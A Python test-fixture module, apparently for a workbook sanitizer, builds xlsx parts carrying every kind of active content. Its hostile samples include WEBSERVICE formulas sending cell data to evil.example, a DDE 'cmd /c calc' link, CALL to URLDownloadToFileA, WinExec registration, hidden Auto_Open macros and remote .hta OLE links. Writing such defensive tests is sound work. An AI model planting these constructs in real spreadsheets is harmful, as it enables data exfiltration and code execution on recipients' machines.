"""Everything that acts in a workbook, put into a report by hand: each function adds one kind to the parts of one."""

from __future__ import annotations

import re
from collections.abc import Callable
from xml.sax.saxutils import escape

Parts = dict[str, bytes]
Kind = Callable[[Parts], None]

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
EVIL = "\\\\evil.example\\share\\x.hta"
"""Whatever is put in names this host; nothing that leaves may name it but as text of a cell or a comment."""
BOOK, TASKS, ITEMS = "xl/workbook.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"
STYLES, THEME, TYPES = "xl/styles.xml", "xl/theme/theme1.xml", "[Content_Types].xml"
_DECLARED = f'xmlns:r="{OFFICE}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
_X14 = f'xmlns:x14="{MICROSOFT}/spreadsheetml/2009/9/main" xmlns:xm="{MICROSOFT}/excel/2006/main"'
_BLIP = (
    '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="p"><a:hlinkClick r:id="rIdE1" action="ppaction://program"/>'
    '</xdr:cNvPr><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rIdE1"/></xdr:blipFill><xdr:spPr/>'
    "</xdr:pic>"
)
_SPREADSHEET_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"

KINDS: dict[str, Kind] = {}


def kind(function: Kind) -> Kind:
    """Register a function that makes a report act."""
    KINDS[function.__name__] = function
    return function


# --- how parts are changed ---------------------------------------------------------------------


def edit(parts: Parts, name: str, before: str, added: str) -> None:
    """Put ``added`` in front of the first ``before`` of a part."""
    text = parts[name].decode()
    assert before in text, (name, before)
    parts[name] = text.replace(before, added + before, 1).encode()


def relate(parts: Parts, owner: str, type_: str, target: str, *, id_: str, outside: bool = False) -> None:
    """A relation of a part; a short ``type_`` is one of Office's own."""
    folder, _, base = owner.rpartition("/")
    name = f"{folder}/_rels/{base}.rels" if owner else "_rels/.rels"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    parts.setdefault(name, empty)
    mode = ' TargetMode="External"' if outside else ""
    full = type_ if ":" in type_ else f"{OFFICE}/{type_}"
    entry = f'<Relationship Id="{id_}" Type="{full}" Target="{escape(target)}"{mode}/>'
    edit(parts, name, "</Relationships>", entry)


def add(parts: Parts, name: str, content: str, content_type: str) -> None:
    """A new part with its content type."""
    parts[name] = content.encode()
    edit(parts, TYPES, "</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/>')


def formula(parts: Parts, text: str, *, cell: str = "S9", value: str = "7", more: str = "", sheet: str = ITEMS) -> None:
    """A formula with a result, in a row below all others."""
    row = "".join(filter(str.isdigit, cell))
    xml = f'<row r="{20_000 + int(row)}"><c r="{cell.rstrip("0123456789")}{20_000 + int(row)}"'
    edit(parts, sheet, "</sheetData>", f'{xml} t="str"><f{more}>{escape(text)}</f><v>{value}</v></c></row>')


# --- formulas and names ------------------------------------------------------------------------

FORMULAS = (
    'WEBSERVICE("http://evil.example/?q="&A4)',
    "cmd|'/c calc'!A1",
    '_xlfn.WEBSERVICE("http://evil.example")',
    'HYPERLINK("\\\\evil.example\\x.hta","点此")',
    'INDIRECT("\'\\\\evil.example\\s\\[x.xlsx]S\'!A1")',
    "'\\\\evil.example\\s\\[x.xlsx]S'!A1",
    "[1]!A1",
    'RTD("evil.example","","x")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)',
    'REGISTER.ID("kernel32","WinExec")',
    '_xlfn.IMAGE("http://evil.example/x.png")',
    'FILTERXML(WEBSERVICE("http://evil.example"),"//a")',
    'IF(1,EXEC("calc"),2)',
    "SUM(A4:A9)",
    "TODAY()",
)


@kind
def formulas_of_its_own(parts: Parts) -> None:
    for number, text in enumerate(FORMULAS, start=1):
        formula(parts, text, cell=f"S{number}")


@kind
def formulas_for_many_cells(parts: Parts) -> None:
    formula(parts, 'WEBSERVICE("http://evil.example")', cell="T101", more=' t="array" ref="T20101"')
    formula(parts, 'WEBSERVICE("http://evil.example")', cell="U102", more=' t="shared" ref="U20102:U20103" si="9"')
    formula(parts, "", cell="U103", more=' t="shared" si="9"')
    formula(parts, "", cell="V104", more=' t="dataTable" ref="V20104" dt2D="0" dtr="0" r1="A1" ca="1"')


@kind
def names(parts: Parts) -> None:
    hostile = {
        "_xlnm.Auto_Open": "'恶意'!$A$1",
        "Auto_Open": 'EXEC("calc")',
        "zwgk_x": 'WEBSERVICE("http://evil.example")',
        "远程": "'\\\\evil.example\\s\\[x.xlsx]S'!$A$1",
        "_xlnm.Print_Area": 'OFFSET(INDIRECT("\\\\evil.example"),0,0)',
    }
    texts = "".join(
        f'<definedName name="{name}" hidden="1" function="1" vbProcedure="1" xlm="1">{escape(text)}</definedName>'
        for name, text in hostile.items()
    )
    edit(parts, BOOK, "</definedNames>", texts)


@kind
def our_name_made_another(parts: Parts) -> None:
    text = parts[BOOK].decode()
    wanted = '<definedName name="zwgk_item_check">'
    hostile = f'{wanted}WEBSERVICE("http://evil.example/"&amp;$A1)</definedName>'
    parts[BOOK] = re.sub(f"{wanted}.*?</definedName>", lambda _: hostile, text).encode()


@kind
def our_name_on_one_sheet(parts: Parts) -> None:
    local = '<definedName name="zwgk_tasks" localSheetId="1">WEBSERVICE("http://evil.example")</definedName>'
    edit(parts, BOOK, "</definedNames>", local)


@kind
def rules(parts: Parts) -> None:
    formula_ = '<formula>WEBSERVICE("http://evil.example")</formula>'
    style = f'<cfRule type="expression" dxfId="0" priority="90">{formula_}</cfRule>'
    bar = (
        '<cfRule type="dataBar" priority="91"><dataBar><cfvo type="formula" val="WEBSERVICE(&quot;http://evil.example'
        '&quot;)"/><cfvo type="max"/><color rgb="FF638EC6"/></dataBar></cfRule>'
    )
    for number, rule in enumerate((style, bar)):
        formatting = f'<conditionalFormatting sqref="R{number + 4}">{rule}</conditionalFormatting>'
        edit(parts, TASKS, "<dataValidations", formatting)
    checked = (
        '<dataValidation type="list" sqref="R9"><formula1>INDIRECT("\'\\\\evil.example\\s\\[x.xlsx]S\'!A1")</formula1>'
        "</dataValidation>"
    )
    edit(parts, TASKS, "</dataValidations>", checked)


@kind
def rules_of_a_later_excel(parts: Parts) -> None:
    checked = (
        f'<ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}" {_X14}><x14:dataValidations count="1" {_X14}>'
        '<x14:dataValidation type="list"><x14:formula1><xm:f>WEBSERVICE("http://evil.example")</xm:f></x14:formula1>'
        "<xm:sqref>R9</xm:sqref></x14:dataValidation></x14:dataValidations></ext>"
    )
    coloured = (
        f'<ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" {_X14}><x14:conditionalFormattings>'
        '<x14:conditionalFormatting><x14:cfRule type="expression" priority="92" id="{A}"><xm:f>WEBSERVICE("http://evil.'
        'example")</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>'
        "</ext>"
    )
    lines = (
        f'<ext uri="{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}" {_X14}><x14:sparklineGroups><x14:sparklineGroup>'
        "<x14:sparklines><x14:sparkline><xm:f>'\\\\evil.example\\[x.xlsx]S'!A1:A5</xm:f><xm:sqref>B2</xm:sqref>"
        "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext>"
    )
    edit(parts, TASKS, "</worksheet>", f"<extLst>{checked}{coloured}{lines}</extLst>")


# --- what leads out ----------------------------------------------------------------------------


@kind
def links(parts: Parts) -> None:
    targets = (EVIL, "http://evil.example/", "file:///c:/windows/system32/calc.exe", "javascript:alert(1)", "cmd.exe")
    xml = ""
    for number, target in enumerate(targets):
        relate(parts, ITEMS, "hyperlink", target, id_=f"rIdL{number}", outside=True)
        xml += f'<hyperlink ref="B{number + 20}" r:id="rIdL{number}" display="表格"/>'
    xml += f'<hyperlink ref="B30" location="{escape(EVIL)}"/><hyperlink ref="B31" location="WEBSERVICE(A1)"/>'
    edit(parts, ITEMS, "<printOptions", f"<hyperlinks>{xml}</hyperlinks>")


@kind
def links_to_other_workbooks(parts: Parts) -> None:
    texts = {
        "ddeLink": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        "book": f'<externalLink xmlns="{MAIN}" {_DECLARED}><externalBook r:id="rIdE1"/></externalLink>',
        "ole": f'<externalLink xmlns="{MAIN}" {_DECLARED}><oleLink r:id="rIdE1" progId="Package"/></externalLink>',
    }
    references = ""
    for number, text in enumerate(texts.values(), start=1):
        name = f"xl/externalLinks/externalLink{number}.xml"
        add(parts, name, text, "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
        relate(parts, name, "externalLinkPath", EVIL, id_="rIdE1", outside=True)
        relate(parts, BOOK, "externalLink", f"externalLinks/externalLink{number}.xml", id_=f"rIdX{number}")
        references += f'<externalReference r:id="rIdX{number}"/>'
    edit(parts, BOOK, "<definedNames>", f"<externalReferences>{references}</externalReferences>")
    formula(parts, "[1]!A1", cell="S201")


@kind
def connections(parts: Parts) -> None:
    text = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="c" type="4" refreshOnLoad="1" background="1">'
        '<webPr url="http://evil.example/" htmlTables="1"/></connection></connections>'
    )
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    add(parts, "xl/connections.xml", text, f"{spreadsheet}.connections+xml")
    relate(parts, BOOK, "connections", "connections.xml", id_="rIdC1")
    query = f'<queryTable xmlns="{MAIN}" name="q" connectionId="1" refreshOnLoad="1"/>'
    add(parts, "xl/queryTables/queryTable1.xml", query, f"{spreadsheet}.queryTable+xml")
    table = (
        f'<table xmlns="{MAIN}" id="1" name="T" displayName="T" ref="W1:W3" tableType="queryTable" connectionId="1">'
        '<tableColumns count="1"><tableColumn id="1" name="W" queryTableFieldId="1"><calculatedColumnFormula>'
        'WEBSERVICE("http://evil.example")</calculatedColumnFormula></tableColumn></tableColumns></table>'
    )
    add(parts, "xl/tables/table1.xml", table, f"{spreadsheet}.table+xml")
    relate(parts, ITEMS, "table", "../tables/table1.xml", id_="rIdT1")
    relate(parts, "xl/tables/table1.xml", "queryTable", "../queryTables/queryTable1.xml", id_="rIdQ1")
    edit(parts, ITEMS, "</worksheet>", '<tableParts count="1"><tablePart r:id="rIdT1"/></tableParts>')


@kind
def pivots(parts: Parts) -> None:
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    cache = (
        f'<pivotCacheDefinition xmlns="{MAIN}" {_DECLARED} refreshOnLoad="1"><cacheSource type="worksheet">'
        '<worksheetSource r:id="rIdE1" ref="A1:B2" sheet="S"/></cacheSource></pivotCacheDefinition>'
    )
    add(parts, "xl/pivotCache/pivotCacheDefinition1.xml", cache, f"{spreadsheet}.pivotCacheDefinition+xml")
    relate(parts, "xl/pivotCache/pivotCacheDefinition1.xml", "externalLinkPath", EVIL, id_="rIdE1", outside=True)
    relate(parts, BOOK, "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", id_="rIdP1")
    edit(parts, BOOK, "</workbook>", '<pivotCaches><pivotCache cacheId="1" r:id="rIdP1"/></pivotCaches>')
    table = f'<pivotTableDefinition xmlns="{MAIN}" name="P" cacheId="1"/>'
    add(parts, "xl/pivotTables/pivotTable1.xml", table, f"{spreadsheet}.pivotTable+xml")
    relate(parts, ITEMS, "pivotTable", "../pivotTables/pivotTable1.xml", id_="rIdP2")


# --- what runs ---------------------------------------------------------------------------------


@kind
def macros(parts: Parts) -> None:
    add(parts, "xl/vbaProject.bin", "macro", "application/vnd.ms-office.vbaProject")
    relate(parts, BOOK, f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin", id_="rIdV1")
    sheet = (
        f'<xm:macrosheet xmlns="{MAIN}" xmlns:xm="{MICROSOFT}/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>'
        'EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'
    )
    add(parts, "xl/macrosheets/sheet1.xml", sheet, "application/vnd.ms-excel.macrosheet+xml")
    relate(parts, BOOK, f"{MICROSOFT}/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", id_="rIdV2")
    edit(parts, BOOK, "</sheets>", '<sheet name="恶意" sheetId="99" state="veryHidden" r:id="rIdV2"/>')
    types = parts[TYPES].decode()
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    parts[TYPES] = types.replace(plain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml").encode()


@kind
def dialogs(parts: Parts) -> None:
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    add(parts, "xl/dialogsheets/sheet1.xml", f'<dialogsheet xmlns="{MAIN}"/>', f"{spreadsheet}.dialogsheet+xml")
    relate(parts, BOOK, "dialogsheet", "dialogsheets/sheet1.xml", id_="rIdD1")
    edit(parts, BOOK, "</sheets>", '<sheet name="对话" sheetId="98" r:id="rIdD1"/>')


@kind
def ribbon_and_panes(parts: Parts) -> None:
    ribbon = '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>'
    add(parts, "customUI/customUI14.xml", ribbon, "application/xml")
    relate(parts, "", f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", id_="rIdU1")
    pane = f'<wetp:taskpanes xmlns:wetp="{MICROSOFT}/webextensions/taskpanes/2010/11"/>'
    add(parts, "xl/webextensions/taskpanes.xml", pane, "application/vnd.ms-office.webextensiontaskpanes+xml")
    panes = f"{MICROSOFT}/2011/relationships/webextensiontaskpanes"
    relate(parts, "", panes, "xl/webextensions/taskpanes.xml", id_="rIdU2")
    web = f'<we:webextension xmlns:we="{MICROSOFT}/webextensions/webextension/2010/11" id="x"/>'
    add(parts, "xl/webextensions/webextension1.xml", web, "application/vnd.ms-office.webextension+xml")
    one = f"{MICROSOFT}/2011/relationships/webextension"
    relate(parts, "xl/webextensions/taskpanes.xml", one, "webextension1.xml", id_="rIdU3")


@kind
def objects(parts: Parts) -> None:
    add(parts, "xl/embeddings/oleObject1.bin", "MZ", "application/vnd.openxmlformats-officedocument.oleObject")
    relate(parts, ITEMS, "oleObject", "../embeddings/oleObject1.bin", id_="rIdO1")
    relate(parts, ITEMS, "oleObject", EVIL, id_="rIdO2", outside=True)
    add(parts, "xl/activeX/activeX1.xml", "<ax/>", "application/vnd.ms-office.activeX+xml")
    relate(parts, ITEMS, "control", "../activeX/activeX1.xml", id_="rIdO3")
    one = '<oleObject progId="Package" shapeId="1025" r:id="rIdO1"/>'
    always = 'oleUpdate="OLEUPDATE_ALWAYS" shapeId="1026" r:id="rIdO2"'
    linked = f'<oleObject progId="htafile" link="{escape(EVIL)}" {always}/>'
    wrapped = f'<mc:AlternateContent {_DECLARED}><mc:Choice Requires="x14">{one}</mc:Choice></mc:AlternateContent>'
    controls = '<controls><control shapeId="1027" r:id="rIdO3" name="b"/></controls>'
    edit(parts, ITEMS, "</worksheet>", f"<oleObjects>{wrapped}{linked}</oleObjects>{controls}")


@kind
def pictures(parts: Parts) -> None:
    space = f'xmlns:xdr="{_SPREADSHEET_DRAWING}" xmlns:a="{_DRAWING}" {_DECLARED}'
    anchor = f"<xdr:oneCellAnchor>{_BLIP}</xdr:oneCellAnchor>"
    shape = '<xdr:sp macro="[0]!Auto_Open" textlink="$A$1"/>'
    drawing = f"<xdr:wsDr {space}>{anchor}<xdr:oneCellAnchor>{shape}</xdr:oneCellAnchor></xdr:wsDr>"
    add(parts, "xl/drawings/drawing7.xml", drawing, "application/vnd.openxmlformats-officedocument.drawing+xml")
    relate(parts, "xl/drawings/drawing7.xml", "image", EVIL, id_="rIdE1", outside=True)
    chart = (
        f'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" {_DECLARED}><c:externalData '
        'r:id="rIdE1"/></c:chartSpace>'
    )
    add(parts, "xl/charts/chart7.xml", chart, "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")
    relate(parts, "xl/charts/chart7.xml", "externalLinkPath", EVIL, id_="rIdE1", outside=True)
    relate(parts, "xl/drawings/drawing7.xml", "chart", "../charts/chart7.xml", id_="rIdE2")
    relate(parts, ITEMS, "drawing", "../drawings/drawing7.xml", id_="rIdG1")
    relate(parts, ITEMS, "image", EVIL, id_="rIdG2", outside=True)
    edit(parts, ITEMS, "</worksheet>", '<drawing r:id="rIdG1"/><picture r:id="rIdG2"/>')


@kind
def buttons(parts: Parts) -> None:
    """Form controls and pictures live in the same old drawings as the boxes of comments."""
    drawing = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" o:button="t" href="http://evil.'
        'example"><v:imagedata src="\\\\evil.example\\x.png" o:href="http://evil.example/x.png"/><x:ClientData '
        'ObjectType="Button"><x:FmlaMacro>Auto_Open</x:FmlaMacro></x:ClientData></v:shape><v:shape id="_x0000_s1026">'
        '<x:ClientData ObjectType="Note"><x:Row>3</x:Row><x:Column>1</x:Column><x:FmlaMacro>Auto_Open</x:FmlaMacro>'
        "</x:ClientData></v:shape></xml>"
    )
    parts["xl/drawings/vmlDrawing7.vml"] = drawing.encode()
    vml = '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
    edit(parts, TYPES, "</Types>", vml)
    relate(parts, TASKS, "vmlDrawing", "../drawings/vmlDrawing7.vml", id_="rIdB1")
    comments = (
        f'<comments xmlns="{MAIN}"><authors><author>科员</author></authors><commentList><comment ref="B4" authorId="0">'
        "<text><r><t>科员的批注</t></r></text></comment></commentList><extLst><ext><x>http://evil.example</x></ext>"
        "</extLst></comments>"
    )
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    add(parts, "xl/comments7.xml", comments, f"{spreadsheet}.comments+xml")
    relate(parts, TASKS, "comments", "../comments7.xml", id_="rIdB2")
    edit(parts, TASKS, "</worksheet>", '<legacyDrawing r:id="rIdB1"/><legacyDrawingHF r:id="rIdB1"/>')


@kind
def settings_of_a_sheet(parts: Parts) -> None:
    relate(parts, ITEMS, "printerSettings", "../printerSettings/printerSettings1.bin", id_="rIdS1")
    add(parts, "xl/printerSettings/printerSettings1.bin", "x", "application/vnd.openxmlformats-officedocument.x")
    relate(parts, ITEMS, "externalLinkPath", EVIL, id_="rIdS2", outside=True)
    relate(parts, ITEMS, "customProperty", "../customProperty1.bin", id_="rIdS3")
    add(parts, "xl/customProperty1.bin", "x", "application/vnd.openxmlformats-officedocument.x")
    reference = '<dataRefs count="1"><dataRef ref="A1" sheet="S" r:id="rIdS2"/></dataRefs>'
    consolidated = f"<dataConsolidate>{reference}</dataConsolidate>"
    scenarios = '<scenarios><scenario name="x"><inputCells r="A1" val="=WEBSERVICE()"/></scenario></scenarios>'
    views = '<customSheetViews><customSheetView guid="{00000000-0000-0000-0000-000000000000}"/></customSheetViews>'
    edit(parts, ITEMS, "<mergeCells", f"{scenarios}{consolidated}{views}")
    item = f'<webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="{EVIL}"/>'
    properties = '<customProperties><customPr name="x" r:id="rIdS3"/></customProperties>'
    tags = '<smartTags><cellSmartTags r="A1"/></smartTags><cellWatches><cellWatch r="A1"/></cellWatches>'
    edit(parts, ITEMS, "</worksheet>", f"{properties}{tags}<webPublishItems>{item}</webPublishItems>")
    text = parts[ITEMS].decode().replace("<pageSetup ", '<pageSetup r:id="rIdS1" ')
    parts[ITEMS] = text.replace("<sheetPr>", '<sheetPr codeName="x">').encode()


@kind
def settings_of_the_workbook(parts: Parts) -> None:
    sharing = f'<fileSharing readOnlyRecommended="1"/><mc:AlternateContent {_DECLARED}/>'
    edit(parts, BOOK, "<workbookPr", sharing)
    item = f'<webPublishObject id="1" divId="x" destinationFile="{EVIL}"/>'
    publishing = f'<webPublishing/><fileRecoveryPr repairLoad="1"/><webPublishObjects>{item}</webPublishObjects>'
    edit(parts, BOOK, "</workbook>", f"<oleSize ref='A1'/><smartTagPr/>{publishing}")
    relate(parts, BOOK, "attachedToolbars", "attachedToolbars.bin", id_="rIdW1")
    add(parts, "xl/attachedToolbars.bin", "x", "application/vnd.ms-excel.attachedToolbars")
    relate(parts, BOOK, f"{MICROSOFT}/2017/06/relationships/rdRichValueWebImage", EVIL, id_="rIdW2", outside=True)
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    add(parts, "xl/metadata.xml", f'<metadata xmlns="{MAIN}"/>', f"{spreadsheet}.sheetMetadata+xml")
    relate(parts, BOOK, "sheetMetadata", "metadata.xml", id_="rIdW3")


@kind
def properties_and_data(parts: Parts) -> None:
    text = parts["docProps/app.xml"].decode()
    base = f"<HyperlinkBase>{EVIL}</HyperlinkBase></Properties>"
    parts["docProps/app.xml"] = text.replace("</Properties>", base).encode()
    custom = '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>'
    add(parts, "docProps/custom.xml", custom, "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    relate(parts, "", "custom-properties", "docProps/custom.xml", id_="rIdY1")
    add(parts, "customXml/item1.xml", f"<x>{EVIL}</x>", "application/xml")
    relate(parts, "", "customXml", "customXml/item1.xml", id_="rIdY2")
    relate(parts, "", "attachedTemplate", EVIL, id_="rIdY3", outside=True)


@kind
def looks(parts: Parts) -> None:
    ext = "<extLst><ext><x>http://evil.example</x></ext></extLst>"
    edit(parts, STYLES, "</styleSheet>", ext)
    edit(parts, "xl/sharedStrings.xml", "</sst>", ext)
    relate(parts, THEME, "image", EVIL, id_="rIdE1", outside=True)
    fill = f'<a:blipFill xmlns:r="{OFFICE}"><a:blip r:link="rIdE1"/><a:stretch/></a:blipFill>'
    edit(parts, THEME, "</a:fillStyleLst>", fill)


@kind
def comments_inside_the_xml(parts: Parts) -> None:
    edit(parts, ITEMS, "<sheetData>", "<!-- http://evil.example --><?mso-application progid='evil.example'?>")
